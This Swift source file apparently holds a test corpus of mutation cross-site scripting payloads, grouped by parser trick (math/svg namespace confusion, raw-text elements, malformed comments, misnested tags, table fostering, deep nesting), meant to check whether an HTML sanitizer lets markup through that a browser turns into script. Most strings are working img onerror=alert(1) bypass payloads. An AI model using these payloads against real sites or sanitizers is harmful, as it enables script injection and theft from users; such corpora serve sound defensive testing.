extension Attacks {
  /// Attacks that are harmless in one tree and harmful in the tree that a browser makes of it.
  static let mutating: [Family] = [
    ("one namespace taken for another", namespaces),
    ("text that becomes markup", rawTextConfusion),
    ("comments that end elsewhere", comments),
    ("tags that close what they should not", misnesting),
    ("what a table does not hold", fostering),
    ("deeper than parsers go", depths),
  ]

  private static let namespaces = [
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></math>",
    "<math><mtext><malignmark><style><math><img title='</style><img src onerror=alert(1)>'></math>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'></math>",
    "<svg><desc><math><mi><style><img src=x onerror=alert(1)></style></mi></math></desc></svg>",
    "<svg><title><svg><style><img title='</style><img src onerror=alert(1)>'></svg></title></svg>",
    "<svg><foreignObject><svg><style><a title='</style><img src onerror=alert(1)>'></svg></foreignObject></svg>",
    "<svg><annotation-xml><foreignobject><noscript><p title='</noscript><img src onerror=alert(1)>'></svg>",
    "<math><annotation-xml encoding='text/html'><svg><style><p id='</style><img src onerror=alert(1)>'></svg></math>",
    "<math><annotation-xml encoding='TEXT/HTML '><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mtext><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></svg></math>",
    "<svg><math><style><img title='</style><img src onerror=alert(1)>'></math></svg>",
    "<math><svg><mglyph><style><img title='</style><img src onerror=alert(1)>'></svg></math>",
    "<svg></p><style><g title='</style><img src onerror=alert(1)>'></svg>",
    "<svg></br><style><g title='</style><img src onerror=alert(1)>'></svg>",
    "<svg><font color=x><style><b title='</style><img src onerror=alert(1)>'></font></svg>",
    "<svg><font><style><b title='</style><img src onerror=alert(1)>'></font></svg>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></math>",
    "<svg><image><style><b title='</style><img src onerror=alert(1)>'></image></svg>",
    "<svg><g><title><p></g><style><b title='</style><img src onerror=alert(1)>'></svg>",
    "<svg><a><svg></a><style><b title='</style><img src onerror=alert(1)>'></svg></svg>",
    "<a><svg></a><style><b title='</style><img src onerror=alert(1)>'></svg></a>",
    "<svg><tspan></svg><p></svg></tspan><style>x</style><img src=x onerror=alert(1)>",
  ]

  private static let rawTextConfusion = [
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>",
    "<style><noscript></style><img src=x onerror=alert(1)></noscript>",
    "<noembed><style></noembed><img src=x onerror=alert(1)>",
    "<xmp><svg></xmp><img src=x onerror=alert(1)></svg>",
    "<title><svg></title><img src=x onerror=alert(1)></svg>",
    "<iframe><textarea></iframe><img src=x onerror=alert(1)></textarea>",
    "<select><xmp></select><img src=x onerror=alert(1)></xmp>",
    "<select><iframe></select><img src=x onerror=alert(1)></iframe></select>",
    "<select><noembed></select><img src=x onerror=alert(1)>",
    "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "<textarea/><img src=x onerror=alert(1)>", "<title/><img src=x onerror=alert(1)>",
    "<style/><img src=x onerror=alert(1)>",
    "<xmp/><img src=x onerror=alert(1)>", "<script/><img src=x onerror=alert(1)>",
    "<noscript/><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>", "<textarea></textarea x><img src=x onerror=alert(1)>",
    "<textarea></textareaX><img src=x onerror=alert(1)>", "<style></style\u{C}><img src=x onerror=alert(1)>",
    "<style></style/x='><img src=x onerror=alert(1)>'>",
    "<script><!--<script></script><img src=x onerror=alert(1)></script>-->",
    "<script><!--</script><img src=x onerror=alert(1)>-->",
    "<plaintext></plaintext><img src=x onerror=alert(1)>",
    "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
    "<listing><style></listing><img src onerror=alert(1)>",
    "<pre>\n\n<img src=x onerror=alert(1)></pre>",
    "<textarea>\n&lt;img src=x onerror=alert(1)&gt;</textarea>",
  ]

  private static let comments = [
    "<!----!><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>-->",
    "<!--x--!-><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>", "<!---><img src=x onerror=alert(1)>",
    "<!-- -- ><img src=x onerror=alert(1)>-->",
    "<!--<!--><img src=x onerror=alert(1)>-->", "<!-- <!-- x --!><img src=x onerror=alert(1)>",
    "<!-x><img src=x onerror=alert(1)>",
    "<!><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>",
    "</!--><img src=x onerror=alert(1)>",
    "<?x><img src=x onerror=alert(1)>?>", "<%<img src=x onerror=alert(1)>%>",
    "<!--\u{0}--><img src=x onerror=alert(1)>",
    "<svg><!--</svg><img src=x onerror=alert(1)>--></svg>",
    "<math><!--</math><img src=x onerror=alert(1)>--></math>",
    "<p title='<!--'><img title='--><img src=x onerror=alert(1)>'>",
    "<!--&#45;&#45;&gt;<img src=x onerror=alert(1)>",
  ]

  private static let misnesting = [
    "<form><div></form><form id=x></div><input name=parentNode></form>",
    "<form id=a></form id=b><form><form>",
    "<p><button><p></button></p>", "<a><button><a>", "<button><a></button></a>", "<p><table><p></table></p>",
    "<a href=x><b><a href=y>z",
    "<a><p><a></p></a>", "<b><p><i></b></p></i>", "<nobr><b><nobr></b></nobr>", "<h1><a><h2></a></h1>",
    "<b><aside></b><p>x</aside>",
    "<a><div><div><div><div><div><div><div><div><div><a>x", "<b><b><b><b><b><p>x</b>y",
    "<i><i><i><i></p><p>x", "<em><ul></em><li></ul>",
    "<ruby><rb>x<rtc><rt>y<rp>z<rb>w", "<rp><ruby><rt></ruby></rp>", "<li><dd><li></dd>",
    "<option><p></option>", "<optgroup><b></optgroup>",
    "<body><b></body><p>", "<html><i></html><p>", "<frameset></frameset><p>x", "<head><p></head>",
    "<col><p>x", "<caption><table><caption>",
    "<marquee><b></marquee>x", "<object><i></object>x", "<applet><a></applet>x", "<template><b></template>x",
    "<details><p></details></p>",
    "<figure><figcaption><p></figure></figcaption>", "<dl><div><dt></div></dl><dd>", "<p><math></p></math>",
    "<p><svg></p></svg>",
    "<b><svg></b></svg>", "<svg><g></svg></g>", "<a><math><mi><a></math>", "<table><math><tr></math></table>",
    "<p><svg><p></svg></p>",
    "<button><svg><button></svg>", "<label><label>", "<video><video>", "<picture><p></picture>",
    "<iframe></p></iframe>",
  ]

  private static let fostering = [
    "<table><b><tr><td></b>x", "<table><a><a>x</table>", "<table><svg><tr></svg>",
    "<table><math><mi>x</math><tr>", "<table><form><tr><td></form>",
    "<table><input type=hidden><input type=checkbox>", "<table><p><table><p></table>",
    "<table><tr><p><td><b>x</p>y", "<table><td><table><b><td></b>x",
    "<table><caption><b></caption>x<tr>", "<table><colgroup><b>x</colgroup>", "<table><tbody><a><tr><a>",
    "<table><tr><select><td>",
    "<table><select><tr><td><img src=x onerror=alert(1)>", "<table><style><td></style>x",
    "<table><template><td></template>x",
    "<table><svg><desc><td>x", "<svg><desc><table><td></svg>x", "<table><iframe></table></iframe>",
    "<table>&nbsp;<tr>x",
    "<table><tr><td><a><table><tr><a>", "<table><i><p><i><tr></table></i>",
    "<table><nobr><td><nobr></table><nobr>",
    "<div><table><div></table></div></table>", "<table><th><td><caption><tbody>", "<tr><td>x</table>y",
    "<td><table></td></table>",
  ]

  private static let depths: [String] = [
    "div", "b", "span", "table><tr><td", "ul><li", "svg><g", "math><mrow", "a", "font",
  ].map {
    String(repeating: "<\($0)>", count: 600) + "<svg><style><p title='</style><img src=x onerror=alert(1)>'>x"
  }
}
